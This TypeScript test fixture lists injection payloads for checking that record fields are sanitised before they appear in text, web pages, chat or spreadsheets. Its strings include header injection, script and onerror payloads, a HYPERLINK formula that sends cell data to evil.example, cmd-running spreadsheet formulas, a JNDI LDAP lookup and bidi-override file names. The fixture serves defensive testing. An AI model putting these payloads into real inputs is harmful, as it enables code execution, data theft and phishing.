/** What an attacker would put into a field of a record, and how it may be seen to have been disarmed. */
export type Attack = {
  /** As it ends the sentence "… is safe from". */
  readonly name: string;
  readonly text: string;
  /** The live form, and the media in which it is alive; there it must never be seen. */
  readonly live: RegExp;
  readonly in: readonly Medium[];
};

/** How an output is read: as lines, as a page, as a chat's layout, as a spreadsheet. */
export type Medium = 'lines' | 'page' | 'chat' | 'sheet';

/** The table of attacks. Every one is tried in every field and against every output. */
export const ATTACKS: readonly Attack[] = [
  attack('a header injection', 'eve\r\nBcc: all@evil.example\r\n\r\nhello', /^bcc:/im),
  attack('a header folded over lines', 'eve\r\n Cc: all@evil.example', /^\s*cc:/im),
  attack('a percent-encoded line break', 'eve%0d%0aBcc: all@evil.example', /^bcc:/im),
  attack('a bare carriage return', 'eve\rTo: all@evil.example', /\r/),
  attack(
    'Unicode line separators',
    'eve\u2028Subject: x\u2029Subject: y\u0085Subject: z',
    /^subject:/im,
  ),
  attack('an encoded word', '=?utf-8?B?QmNjOiBhbGxAZXZpbC5leGFtcGxl?=', /=\?[\w-]+\?[bq]\?/i),
  attack(
    'a bidirectional override',
    'admin\u202e\u2066gnp.exe\u2069',
    /[\u202a-\u202e\u2066-\u2069]/,
  ),
  attack('a right-to-left override in a file name', 'invoice\u202efdp.exe', /\u202e/),
  attack('zero-width characters', 'al\u200bi\u200dc\u2060e\ufeff', /[\u200b-\u200f\u2060\ufeff]/),
  attack(
    'invisible tags and selectors',
    'alice\u{E0041}\u{E0042}\ufe0f\u3164\u2800',
    /[\u{E0000}-\u{E007F}]|\ufe0f|\u3164|\u2800/u,
  ),
  attack(
    'terminal escapes',
    '\u001b[2J\u001b]0;owned\u0007\u001b]8;;https://evil.example\u0007x',
    /(?!\n)\p{Cc}/u,
  ),
  attack('eight-bit terminal escapes', '\u009b2J\u009d0;owned\u009c', /(?!\n)\p{Cc}/u),
  attack('backspaces over a name', 'mallory\b\b\b\b\b\b\balice', /(?!\n)\p{Cc}/u),
  attack('a NUL', 'alice\u0000mallory', /(?!\n)\p{Cc}/u),
  attack(
    'lone surrogates',
    'a\ud800b\udc00c',
    /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/,
  ),
  attack('a script', '<script>fetch("https://evil.example/")</script>', /<script/i, ['page']),
  attack(
    'an image that loads and runs',
    '<img src="https://evil.example/p.gif" onerror=alert(1)>',
    /<img/i,
    ['page'],
  ),
  attack(
    'an attribute broken out of',
    `"'><a href="javascript:alert(1)" onclick='alert(1)'>x</a>`,
    /<a\b[^>]*javascript:/i,
    ['page'],
  ),
  attack(
    'a style that loads',
    '</style><style>@import "//evil.example/x.css";</style>',
    /<\/?style>.*@import/i,
    ['page'],
  ),
  attack(
    'a page that refreshes itself',
    '--><meta http-equiv=refresh content="0;url=//evil.example">',
    /<meta http-equiv/i,
    ['page'],
  ),
  attack(
    'a phishing link',
    'https://signin.aws.evil.example/console?account=1',
    /https:\/\/signin/,
  ),
  attack(
    'a link without a scheme',
    'www.evil.com or evil.com/login',
    /\bwww\.evil\.com|\bevil\.com\//,
  ),
  attack('a link in capitals', 'HTTPS://EVIL.EXAMPLE/LOGIN', /HTTPS:\/\//),
  attack('a homograph', '\u0430dmin', /\u0430/),
  attack('letters of mathematics', '\u{1D5AE}\u{1D5C4} Root', /[\u{1D400}-\u{1D7FF}]/u),
  attack('a formula', '=HYPERLINK("https://evil.example/?"&A1,"alice")', /https:\/\/evil/),
  attack('a formula with a plus', '+cmd|" /C calc"!A0', /^\+/, ['sheet']),
  attack('a formula with an at sign', '@SUM(1+1)*cmd|" /C calc"!A0', /^@SUM/, ['sheet']),
  attack('a formula after a tab', '\t=1+1', /\t/),
  attack('a formula in full-width signs', '＝１＋１', /^＝/, ['sheet']),
  attack('a cell broken out of', 'alice","=1+1"\r\n"=1+1', /^"=1/m),
  attack('mentions of a chat', '<!channel> <@U123> @here', /<!channel>|<@U123>/, ['chat']),
  attack(
    'links and images of Markdown',
    '![x](https://evil.example/p.png)[log in](https://evil.example)',
    /\]\(https:/,
    ['chat'],
  ),
  attack('layout of Markdown', '# Root\n> *all well* `x` ~y~ | a |', /^# |^> /m, ['chat']),
  attack('JSON in JSON', '","severity":"info","x":"\\u0022}', /^","severity/m, []),
  attack('names that every object inherits', '__proto__', /\[object |function /),
  attack('places of the templates', `{who} {count} $& \${process.env.HOME}`, /\bundefined\b/),
  attack('a lookup in a log', `\${jndi:ldap://evil.example/a}%s%n%x`, /ldap:\/\//),
  attack('200 KB', 'A'.repeat(200_000), /A{2000}/),
  attack('200 KB of links', 'https://evil.example/'.repeat(10_000), /https:\/\/evil/),
];

function attack(
  name: string,
  text: string,
  live: RegExp,
  media: readonly Medium[] = ['lines', 'page', 'chat'],
): Attack {
  return { name, text, live, in: media };
}
